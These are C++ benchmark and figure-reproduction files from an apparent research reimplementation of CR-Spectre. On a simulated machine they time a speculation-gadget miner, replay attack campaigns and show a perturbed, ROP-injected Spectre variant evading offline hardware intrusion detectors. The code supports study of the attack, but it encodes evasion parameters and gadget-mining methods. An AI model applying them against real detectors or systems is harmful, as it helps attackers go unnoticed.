/// flags (--threads / --bench-json), hands the rest to
/// benchmark::Initialize, and mirrors every run into the JSON file when one
/// was requested.
inline int run_micro_benchmarks(int argc, char** argv) {
  BenchIo io(argc, argv);
  benchmark::Initialize(&argc, argv);
  if (benchmark::ReportUnrecognizedArguments(argc, argv)) return 1;
  if (io.json_enabled()) {
    JsonTeeReporter tee(io);
    benchmark::RunSpecifiedBenchmarks(&tee);
  } else {
    benchmark::RunSpecifiedBenchmarks();
  }
  benchmark::Shutdown();
  return 0;
}

}  // namespace crs::bench
