// Micro-benchmarks of the speculation-aware gadget miner: how fast the
// static classifier walks a decoded image, what a full per-binary pipeline
// (classify + dynamic validation + replay synthesis) costs cold, and what
// the memoized recon path sustains — the numbers that size a corpus-scale
// `gadget_hunter --corpus` sweep against a CI time budget.
#include <benchmark/benchmark.h>

#include <string>

#include "bench_json_reporter.hpp"
#include "casm/assembler.hpp"
#include "casm/runtime.hpp"
#include "fuzz/generator.hpp"
#include "mine/mine.hpp"
#include "support/rng.hpp"

namespace {

using namespace crs;

std::string biased_source(std::uint64_t seed) {
  Rng rng(derive_seed(seed, 0));
  fuzz::GeneratorOptions opt;
  opt.gadget_bias = 60;
  return fuzz::generate_program(rng, opt).source();
}

// Static classifier only: taint pre-pass + window walks over one decoded
// gadget-biased binary. No simulation.
void BM_MineClassify(benchmark::State& state) {
  const std::string src = biased_source(2026);
  casm::AssembleOptions aopt;
  aopt.name = "bench";
  aopt.link_base = 0x10000;
  const sim::Program program =
      casm::assemble(src + casm::runtime_library(), aopt);
  std::size_t candidates = 0;
  for (auto _ : state) {
    const auto found = mine::classify_program(program);
    candidates += found.size();
    benchmark::DoNotOptimize(found);
  }
  state.SetItemsProcessed(static_cast<std::int64_t>(state.iterations()));
  state.counters["candidates"] = benchmark::Counter(
      static_cast<double>(candidates) / static_cast<double>(state.iterations()));
}
BENCHMARK(BM_MineClassify)->Unit(benchmark::kMicrosecond);

// Cold full pipeline per binary: classify, mistrain-and-validate every
// candidate, synthesize + self-check the replay programs. The varying name
// defeats the recon memo, so every iteration pays the real cost — this is
// the per-binary rate of a first-pass corpus sweep.
void BM_MineSourceCold(benchmark::State& state) {
  const std::string src = biased_source(2026);
  std::uint64_t i = 0;
  std::size_t gadgets = 0;
  for (auto _ : state) {
    const auto report =
        mine::mine_source("bench-cold-" + std::to_string(i++), src);
    gadgets += report.gadgets.size();
    benchmark::DoNotOptimize(report);
  }
  state.SetItemsProcessed(static_cast<std::int64_t>(state.iterations()));
  state.counters["gadgets"] = benchmark::Counter(
      static_cast<double>(gadgets) / static_cast<double>(state.iterations()));
}
BENCHMARK(BM_MineSourceCold)->Unit(benchmark::kMillisecond);

// Memoized recon path: re-mining an already-seen binary is a cache lookup.
// The cold/warm gap is what per-binary memoization buys repeated sweeps
// (golden checks, scenario re-emission, CI re-runs).
void BM_MineSourceMemoized(benchmark::State& state) {
  const std::string src = biased_source(2026);
  mine::mine_source("bench-warm", src);  // prime the cache
  for (auto _ : state) {
    const auto report = mine::mine_source("bench-warm", src);
    benchmark::DoNotOptimize(report);
  }
  state.SetItemsProcessed(static_cast<std::int64_t>(state.iterations()));
}
BENCHMARK(BM_MineSourceMemoized)->Unit(benchmark::kMicrosecond);

// Corpus fan-out on the thread pool, fresh binaries every iteration:
// items/s is directly the `gadget_hunter --gen N` binaries-per-second rate.
void BM_MineCorpus(benchmark::State& state) {
  std::uint64_t round = 0;
  const std::size_t kBinaries = 6;
  for (auto _ : state) {
    mine::CorpusOptions opt;
    opt.generated = kBinaries;
    opt.seed = 3000 + round++;  // fresh seeds: no memo hits across rounds
    const auto report = mine::mine_corpus(opt);
    benchmark::DoNotOptimize(report);
  }
  state.SetItemsProcessed(
      static_cast<std::int64_t>(state.iterations() * kBinaries));
}
BENCHMARK(BM_MineCorpus)->Unit(benchmark::kMillisecond);

}  // namespace

int main(int argc, char** argv) {
  return crs::bench::run_micro_benchmarks(argc, argv);
}
