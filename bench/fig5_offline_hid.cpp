// Figure 5: offline-type HID vs (a) traditional Spectre and (b) CR-Spectre.
//
// Paper setting (§III-B2): a statically trained HID (no retraining)
// observes 10 attack attempts. (a) the standalone Spectre binary is
// detected with high accuracy (86–96%). (b) the ROP-injected CR-Spectre
// with a single static perturbation variant (the offline attacker does not
// mutate: "CR-Spectre only generates one variation of perturbation")
// degrades accuracy below the 55% evasion threshold, bottoming out near
// the paper's 16%.
#include <cstdio>

#include "bench_util.hpp"
#include "core/campaign.hpp"
#include "hid/features.hpp"
#include "ml/mlp.hpp"
#include "support/table.hpp"

int main(int argc, char** argv) {
  using namespace crs;
  bench::BenchIo io(argc, argv);
  bench::WallTimer timer;
  bench::print_header("Fig. 5 — offline HID: Spectre vs CR-Spectre",
                      "Figure 5(a) and 5(b), 10 attempts x 4 classifiers");

  const auto cc = bench::paper_corpus_config();
  const auto benign = core::build_benign_corpus(cc);
  const auto attack = core::build_attack_corpus(cc);
  std::printf("training corpus: %zu benign + %zu attack windows "
              "(70/30 handled inside the detector's evaluation)\n\n",
              benign.size(), attack.size());

  const auto zoo = ml::classifier_zoo();

  for (const bool cr_spectre : {false, true}) {
    std::printf(cr_spectre
                    ? "--- Fig. 5(b): CR-Spectre (ROP-injected, one static "
                      "perturbation variant) ---\n"
                    : "--- Fig. 5(a): traditional (standalone) Spectre ---\n");
    std::vector<std::string> header{"classifier"};
    for (int a = 1; a <= 10; ++a) header.push_back("a" + std::to_string(a));
    header.push_back("mean");
    Table table(header);

    double min_mean = 1.0, max_mean = 0.0;
    for (const auto& kind : zoo) {
      core::CampaignConfig cfg;
      cfg.scenario.rop_injected = cr_spectre;
      cfg.scenario.perturb = cr_spectre;
      // The offline attacker's single variant: Algorithm 2 plus the
      // branchy dispersal flavour (no dynamic mutation). Chosen by the
      // ablation_perturbation study: it is the variant that evades every
      // classifier in the zoo, including the margin-based SVM.
      cfg.scenario.perturb_params.delay = 500;
      cfg.scenario.perturb_params.loop_count = 16;
      cfg.scenario.perturb_params.style = perturb::MimicStyle::kBranchy;
      cfg.detector.classifier = kind;
      cfg.detector.features = hid::paper_feature_indices();
      cfg.online_hid = false;
      cfg.dynamic_perturbation = false;
      cfg.attempts = 10;
      cfg.seed = 77 + (cr_spectre ? 100 : 0);
      const auto r = core::run_campaign(cfg, benign, attack);

      std::vector<std::string> row{kind};
      for (const auto& a : r.attempts) row.push_back(bench::pct(a.detection_rate));
      row.push_back(bench::pct(r.mean_detection()));
      table.add_row(row);
      io.emit_attempts(std::string("fig5_") +
                           (cr_spectre ? "crspectre" : "spectre") + ":" + kind,
                       r);
      min_mean = std::min(min_mean, r.mean_detection());
      max_mean = std::max(max_mean, r.mean_detection());
    }
    std::printf("%s\n", table.render().c_str());
    if (!cr_spectre) {
      bench::shape_check("standalone Spectre detected at >80% by every "
                         "classifier (paper: 86-96%)",
                         min_mean > 0.80);
    } else {
      bench::shape_check("CR-Spectre evades the offline HID: mean detection "
                         "<=55% for every classifier (paper: degrades to ~16%)",
                         max_mean <= 0.55);
    }
    std::printf("\n");
  }
  // 2 figure panels x 4 classifiers x 10 attempts.
  io.emit("fig5_offline_hid", timer.ms(), 80.0 / (timer.ms() / 1e3));
  return 0;
}
