// Micro-benchmarks of the campaign fast-reset engine (google-benchmark).
//
// BM_CampaignThroughput is the headline number for the snapshot/memo
// subsystem: attempts/s of a repeated CR-Spectre scenario, with Arg(1)
// running through a ScenarioSession (snapshot restore + memoized builds)
// and Arg(0) through the legacy rebuild-everything run_scenario path. The
// scenario is sized so per-attempt setup (ROP recon/plan, binary builds,
// machine construction) is the dominant legacy cost — exactly the regime
// campaign drivers live in, where thousands of short attempts share one
// configuration.
#include <benchmark/benchmark.h>

#include "bench_json_reporter.hpp"
#include "core/scenario.hpp"
#include "sim/snapshot.hpp"
#include "support/memo.hpp"
#include "workloads/workloads.hpp"

namespace {

using namespace crs;

core::ScenarioConfig campaign_config() {
  core::ScenarioConfig config;
  config.host = "basicmath";
  config.host_scale = 60;  // short attempts: setup-dominated, like campaigns
  config.secret = "CRS!";
  config.rop_injected = true;
  config.perturb = true;
  config.seed = 42;
  return config;
}

void BM_CampaignThroughput(benchmark::State& state) {
  const bool snapshot = state.range(0) != 0;
  const bool prev = fast_reset_enabled();
  set_fast_reset_enabled(snapshot);
  const core::ScenarioConfig config = campaign_config();
  std::uint64_t seed = config.seed;
  if (snapshot) {
    core::ScenarioSession session(config);
    for (auto _ : state) {
      const auto run = session.run_attempt(seed++);
      benchmark::DoNotOptimize(run.attack_launched);
    }
  } else {
    for (auto _ : state) {
      core::ScenarioConfig attempt = config;
      attempt.seed = seed++;
      const auto run = core::run_scenario(attempt);
      benchmark::DoNotOptimize(run.attack_launched);
    }
  }
  set_fast_reset_enabled(prev);
  state.SetItemsProcessed(state.iterations());
}
BENCHMARK(BM_CampaignThroughput)
    ->Arg(1)
    ->Arg(0)
    ->Unit(benchmark::kMillisecond);

// Pages restored per second by Machine::restore on a machine dirtied by a
// real (short) workload run — the raw cost of one rollback, isolated from
// the attempt that dirtied it.
void BM_SnapshotRestore(benchmark::State& state) {
  workloads::WorkloadOptions opt;
  opt.scale = 200;
  opt.secret = "CRS!";
  const auto prog = workloads::build_workload("sha", opt);
  sim::Machine machine;
  sim::Kernel kernel(machine);
  kernel.register_binary("/bin/w", prog);
  sim::MachineSnapshot snap = machine.snapshot();
  std::int64_t pages = 0;
  for (auto _ : state) {
    state.PauseTiming();
    kernel.reset_for_attempt(7);
    kernel.start_with_strings("/bin/w", {"w"});
    kernel.run(150'000);
    state.ResumeTiming();
    machine.restore(snap);
    pages += static_cast<std::int64_t>(snap.last_restored_pages());
  }
  state.SetItemsProcessed(pages);
}
BENCHMARK(BM_SnapshotRestore)->Unit(benchmark::kMicrosecond);

}  // namespace

int main(int argc, char** argv) {
  return crs::bench::run_micro_benchmarks(argc, argv);
}
